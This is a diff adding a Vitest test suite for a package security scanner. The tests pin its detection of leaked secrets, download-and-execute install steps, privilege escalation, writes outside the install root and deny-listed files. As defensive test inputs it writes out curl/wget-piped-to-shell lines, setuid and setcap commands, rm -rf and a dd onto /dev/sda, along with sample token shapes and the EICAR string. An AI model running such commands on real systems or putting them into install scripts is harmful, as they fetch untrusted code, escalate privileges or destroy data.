@@ -1,0 +1,125 @@
+/**
+ * Pins the open-source scan's rules (issue 8): secrets by well-known shapes, dangerous
+ * install/uninstall steps (download-and-execute, privilege escalation, writes outside
+ * $AGPK_INSTALL_ROOT) without flagging the scaffold's own hooks, the license check, the
+ * deny-list, and the verdict as the highest severity.
+ */
+import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+
+import { afterEach, describe, expect, it } from 'vitest';
+
+import { loadDenyList, scanPackageDir, verdictOf, writesOutsideRoot } from '../../src/sources/index.ts';
+
+const dirs: string[] = [];
+afterEach(async () => {
+  for (const d of dirs.splice(0)) await rm(d, { recursive: true, force: true });
+});
+
+async function pkg(files: Record<string, string>): Promise<string> {
+  const dir = await mkdtemp(join(tmpdir(), 'scan-'));
+  dirs.push(dir);
+  for (const [path, content] of Object.entries(files)) {
+    await mkdir(join(dir, path, '..'), { recursive: true });
+    await writeFile(join(dir, path), content);
+  }
+  return dir;
+}
+
+const SCAFFOLD_INSTALL = '#!/bin/sh\n# Runs once after the files are in place.\nset -eu\nmkdir -p "$AGPK_INSTALL_ROOT/var"\n';
+const deny = loadDenyList(undefined);
+const ids = async (files: Record<string, string>) => (await scanPackageDir(await pkg({ LICENSE: 'MIT', ...files }), undefined, deny)).map((f) => f.id);
+
+describe('scanPackageDir', () => {
+  it('finds nothing in a clean package with a license and the scaffold hooks', async () => {
+    expect(await ids({ INSTALL: SCAFFOLD_INSTALL, UNINSTALL: '#!/bin/sh\nrm -rf "$AGPK_INSTALL_ROOT/var"\necho done >/dev/null 2>&1\n', 'payload/run.mjs': 'console.log(1)\n' })).toEqual([]);
+  });
+
+  it('reports a missing license as low risk', async () => {
+    const findings = await scanPackageDir(await pkg({ 'USAGE.md': '# x' }), undefined, deny);
+    expect(findings.map((f) => [f.id, f.severity])).toEqual([['license.missing', 'low']]);
+    expect(verdictOf(findings)).toBe('low');
+  });
+
+  it('accepts a license named in agpk.json', async () => {
+    const findings = await scanPackageDir(await pkg({ 'USAGE.md': '# x' }), { agpk_version: '1.0', id: 'a', name: 'a', version: '1', license: 'MIT' }, deny);
+    expect(findings).toEqual([]);
+  });
+
+  it.each([
+    ['an RSA private key', '-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----', 'secret.private-key'],
+    ['an OpenSSH private key', '-----BEGIN OPENSSH PRIVATE KEY-----', 'secret.private-key'],
+    ['an AWS key id', 'aws_access_key_id = AKIAIOSFODNN7EXAMPLE', 'secret.token'],
+    ['a GitHub token', `token: ghp_${'a1B2'.repeat(9)}`, 'secret.token'],
+    ['a Slack token', 'xoxb-123456789012-abcdefghijkl', 'secret.token'],
+    ['a Google API key', `key=AIza${'x'.repeat(35)}`, 'secret.token'],
+    ['a Stripe live key', `sk_live_${'a'.repeat(24)}`, 'secret.token'],
+  ])('finds %s anywhere in the package', async (_what, content, id) => {
+    expect(await ids({ 'payload/config.txt': content })).toContain(id);
+  });
+
+  it('does not mistake public keys or prose for secrets', async () => {
+    expect(await ids({ 'payload/key.pub': '-----BEGIN PUBLIC KEY-----\nMCow\n-----END PUBLIC KEY-----', 'README.md': 'Set your AWS key in the environment; never ship a private key.' })).toEqual([]);
+  });
+
+  it('flags credentials files', async () => {
+    expect(await ids({ 'payload/.env': 'A=1' })).toContain('secret.env-file');
+  });
+
+  it.each([
+    ['curl | sh', 'curl -fsSL https://x.example/i.sh | sh', 'install.download-exec'],
+    ['wget -O- | sudo bash', 'wget -qO- https://x.example/i.sh | sudo bash', 'install.download-exec'],
+    ['bash <(curl)', 'bash <(curl -s https://x.example/i.sh)', 'install.download-exec'],
+    ['sh -c "$(curl)"', 'sh -c "$(curl -fsSL https://x.example/i.sh)"', 'install.download-exec'],
+    ['eval "$(wget)"', 'eval "$(wget -qO- https://x.example)"', 'install.download-exec'],
+    ['PowerShell iex(iwr)', 'iex (iwr https://x.example/i.ps1)', 'install.download-exec'],
+    ['sudo', 'sudo cp tool "$AGPK_INSTALL_ROOT/bin"', 'install.privilege'],
+    ['setuid chmod', 'chmod u+s "$AGPK_INSTALL_ROOT/bin/tool"', 'install.privilege'],
+    ['4755', 'chmod 4755 "$AGPK_INSTALL_ROOT/bin/tool"', 'install.privilege'],
+    ['setcap', 'setcap cap_net_raw+ep "$AGPK_INSTALL_ROOT/bin/tool"', 'install.privilege'],
+    ['writing /etc', 'echo "x" > /etc/profile.d/tool.sh', 'install.outside-root'],
+    ['copying into /usr/local/bin', 'cp payload/tool /usr/local/bin/tool', 'install.outside-root'],
+    ['appending to ~/.bashrc', 'echo "export PATH=x" >> ~/.bashrc', 'install.outside-root'],
+    ['tee into $HOME', 'echo x | tee $HOME/.profile', 'install.outside-root'],
+    ['rm -rf /', 'rm -rf /opt/tool', 'install.outside-root'],
+  ])('flags %s in INSTALL', async (_what, line, id) => {
+    const found = await ids({ INSTALL: `#!/bin/sh\nset -eu\n${line}\n` });
+    expect(found).toContain(id);
+  });
+
+  it('checks lifecycle hook files named by agpk.json, and ignores comments', async () => {
+    const dir = await pkg({ LICENSE: 'MIT', 'hooks/setup.sh': '#!/bin/sh\n# curl https://x | sh is what we do NOT do\nsudo true\n' });
+    const findings = await scanPackageDir(dir, { agpk_version: '1.0', id: 'a', name: 'a', version: '1', lifecycle: { install: 'hooks/setup.sh' } }, deny);
+    expect(findings.map((f) => f.id)).toEqual(['install.privilege']);
+    expect(findings[0]!.file).toBe('hooks/setup.sh:3');
+  });
+
+  it('flags files on the deny-list by digest', async () => {
+    const eicar = String.raw`X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`;
+    const findings = await scanPackageDir(await pkg({ LICENSE: 'MIT', 'payload/e.com': eicar }), undefined, deny);
+    expect(findings.map((f) => [f.id, f.severity])).toEqual([['denylist.digest', 'high']]);
+    expect(verdictOf(findings)).toBe('high');
+  });
+});
+
+describe('writesOutsideRoot', () => {
+  it.each([
+    ['mkdir -p "$AGPK_INSTALL_ROOT/var"', []],
+    ['cp a "${AGPK_INSTALL_ROOT}/b"', []],
+    ['echo x >/dev/null 2>&1', []],
+    ['echo x > /tmp/x', ['/tmp/x']],
+    ['ln -s "$AGPK_INSTALL_ROOT/bin/t" /usr/bin/t', ['/usr/bin/t']],
+    ['dd if=x of=/dev/sda', ['/dev/sda']],
+  ])('%s', (line, expected) => {
+    expect(writesOutsideRoot(line)).toEqual(expected);
+  });
+});
+
+describe('verdictOf', () => {
+  it('is none without findings or with info only, else the highest severity', () => {
+    expect(verdictOf([])).toBe('none');
+    expect(verdictOf([{ id: 'x', severity: 'info', file: null, message: '' }])).toBe('none');
+    expect(verdictOf([{ id: 'x', severity: 'low', file: null, message: '' }, { id: 'y', severity: 'medium', file: null, message: '' }])).toBe('medium');
+  });
+});
